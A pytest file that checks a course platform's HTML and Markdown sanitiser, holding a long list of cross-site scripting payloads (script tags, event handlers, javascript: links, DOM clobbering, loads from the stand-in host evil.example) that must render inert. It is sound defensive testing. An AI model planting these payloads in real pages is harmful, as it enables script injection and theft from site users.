"""No HTML of an author can run, load from an odd address, or shadow a name of the page."""

import re
from contextlib import suppress
from html.parser import HTMLParser

import pytest

from academy.rendering import chart_drawing, formulas
from academy.rendering.markdown import RenderingRefused, render
from academy.rendering.sanitise import ATTRIBUTES, IDS, SCHEMES, TAGS, sanitise

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>\n\nalert(1)\n\n</script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<img lowsrc=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form id=login><input name=action></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=submit formaction=//evil.example>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href=/x target=_blank ping=//evil.example>x</a>",
    "<a href=/x download>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:a)",
    '[x](/a "onclick=alert(1)")',
    "[x](/a '\"><script>alert(1)</script>')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](y)',
    "![x](y 'z\" onerror=\"alert(1)')",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```x" onclick="alert(1)\ncode\n```',
    "``` <img/src=x/onerror=alert(1)>\ncode\n```",
    "    <script>alert(1)</script>",
    "## <img src=x onerror=alert(1)>",
    '## x" onclick="alert(1)',
    '*[x]: "><script>alert(1)</script>\n\nx',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^<script>]\n\n[^<script>]: x",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! x"onclick=alert(1)\n    x',
    '::: note" onclick="alert(1)\nx\n:::',
    "[[a|<img src=x onerror=alert(1)>]]",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |",
    "- [ ] <img src=x onerror=alert(1)>",
    "x\n: <svg/onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><a id='</title><img src=x onerror=alert(1)>'>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\x02wzxhzdk:0\x03 <b onclick=alert(1)>x</b>",
    "&#2;wzxhzdk:0&#3; <b onclick=alert(1)>x</b>",
    "<div role=dialog aria-label=x tabindex=5 class='modal flash'>x</div>",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    '$x"><script>alert(1)</script>$',
    "$$\n\\text{</math><img src=x onerror=alert(1)>}\n$$",
    "$\\mathrm{<style>@import x</style>}$",
    "$\\operatorname{<svg onload=alert(1)>}$",
    "$\\begin{array}{<b onclick=alert(1)>} x \\end{array}$",
    "$<math href=javascript:alert(1)>$",
    "```chart\ntitle: <script>alert(1)</script>\n\nA;B\nx;1\n```",
    "```chart\ntitle: x\nsource: <img src=x onerror=alert(1)>\n\n<svg onload=alert(1)>;</svg><script>\n</text>;1\n```",
    '```chart\ntitle: "\' onload=alert(1) x="\n\nA;" onclick=alert(1)\nx;1\n```',
    '::: video https://a.fr/" onclick="alert(1) x\ny\n:::',
    "::: video https://a.fr/<script>alert(1)</script> <img src=x onerror=alert(1)>\ny\n:::",
    "::: video https://javascript:alert(1)@a.fr x\ny\n:::",
    ":::: tabs\n::: tab <img src=x onerror=alert(1)>\ny\n:::\n::::",
    "```vtt\n00:01.000 --> 00:02.000\n<v <script>alert(1)</script>><img src=x onerror=alert(1)>\n```",
    '[x]{.glossaire terme="\'><script>alert(1)</script>"}',
    '[x]{lang=en" onclick="alert(1)}',
    "[x]{lang=en onclick=alert(1)}",
    '![x](y){credit="<script>alert(1)</script>"}',
    "![x](y){licence=javascript:alert(1)}",
    "## x {#getElementById}",
    '## x {#a"onclick=alert(1)}',
    "<details name=cookie><summary>x</summary></details>",
    "<span lang='\"><script>' class=chart>x</span>",
    "<figure class=chart><svg class=chart__drawing><script>alert(1)</script></svg></figure>",
    "<img name=getElementById><img id=cookie><a id=location href=/x>x</a>",
]
CLASSES = re.compile(r"[a-zA-Z0-9+#_-]+( [a-zA-Z0-9+#_-]+)*")


# What the renderer itself draws, as HTMLParser names it.
DRAWN = {tag: set(formulas.ATTRIBUTES) | {"alttext"} for tag in formulas.MATHML}
DRAWN |= {tag: {name.lower() for name in chart_drawing.ATTRIBUTES} for tag in chart_drawing.ELEMENTS}


class Audit(HTMLParser):
    """Collect what a browser must never be given."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel"} | DRAWN.get(tag, set())
        if tag not in TAGS and tag not in DRAWN:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in allowed or name.startswith("on") or name == "style":
                self.faults.append(f"{tag}[{name}]")
            self.check_value(tag, name, value or "")
        if tag == "input" and dict(attrs) | {"type": "checkbox", "disabled": ""} != dict(attrs):
            self.faults.append("input that can be used")

    def check_value(self, tag: str, name: str, value: str) -> None:
        if name in ("href", "src"):
            scheme, colon, _ = re.sub(r"[\x00-\x20]", "", value).lower().partition(":")
            if colon and re.fullmatch(r"[a-z][a-z0-9+.-]*", scheme) and scheme not in SCHEMES:
                self.faults.append(f"{tag}[{name}={value}]")
        if name == "id" and not IDS.fullmatch(value):
            self.faults.append(f"id={value}")
        if name == "class" and not CLASSES.fullmatch(value):
            self.faults.append(f"class={value}")
        if name == "tabindex" and value not in ("0", "-1"):
            self.faults.append(f"tabindex={value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    handle_decl = handle_pi = unknown_decl = handle_comment


def faults(html: str) -> list[str]:
    audit = Audit()
    audit.feed(html)
    audit.close()
    return audit.faults


def test_the_audit_sees_what_it_must():
    assert faults("<script>x</script>") == ["<script>"]
    assert faults("<p onclick=x>") == ["p[onclick]"]
    assert faults("<a href='java\tscript:x'>") == ["a[href=java\tscript:x]"]
    assert faults("<p id=cookie>") == ["id=cookie"]
    assert faults("<input name=x>") == ["input[name]", "input that can be used"]
    assert faults("<!-- x -->") == ["<!-- x -->"]


@pytest.mark.parametrize("vector", VECTORS)
def test_vectors_end_inert(vector: str):
    for source in (vector, f"Texte {vector} suite", f"> - {vector}\n", f"| {vector} |\n|---|\n"):
        with suppress(RenderingRefused):  # a refusal shows nothing at all
            assert faults(render(source).html) == []
    assert faults(sanitise(vector)) == []


def test_there_are_enough_vectors():
    assert len(set(VECTORS)) >= 60


@pytest.mark.parametrize(
    "name", ["cookie", "body", "getElementById", "s", "fn", "location", "S-X", "s-é", "fn-1-2-3", "s-" + "a" * 90]
)
def test_ids_that_could_shadow_names_of_the_page_are_dropped(name: str):
    assert sanitise(f'<h2 id="{name}">x</h2><img name="{name}"><a name="{name}">y</a>') == "<h2>x</h2><img><a>y</a>"


def test_an_id_is_given_once():
    assert sanitise('<p id="s-a">1</p><p id="s-a">2</p>') == '<p id="s-a">1</p><p>2</p>'


def test_classes_come_from_a_list():
    html = '<p class="wiki flash admonition">x</p><p class="flash">y</p><code class="language-c++ zz">z</code>'
    assert sanitise(html) == '<p class="wiki admonition">x</p><p>y</p><code class="language-c++">z</code>'


@pytest.mark.parametrize("href", ["https://a.fr", "HTTP://a.fr", "//a.fr", "/\\a.fr", " https://a.fr", "mailto:a@b.fr"])
def test_links_that_leave_say_so(href: str):
    assert 'rel="noopener noreferrer"' in sanitise(f'<a title="t" href="{href}">x</a>')


@pytest.mark.parametrize("href", ["/d/a", "a", "#s-a", "?q=1", "../x", ""])
def test_links_that_stay_say_nothing(href: str):
    assert sanitise(f'<a href="https://x.fr">x</a><a href="{href}">x</a>').endswith(f'<a href="{href}">x</a>')
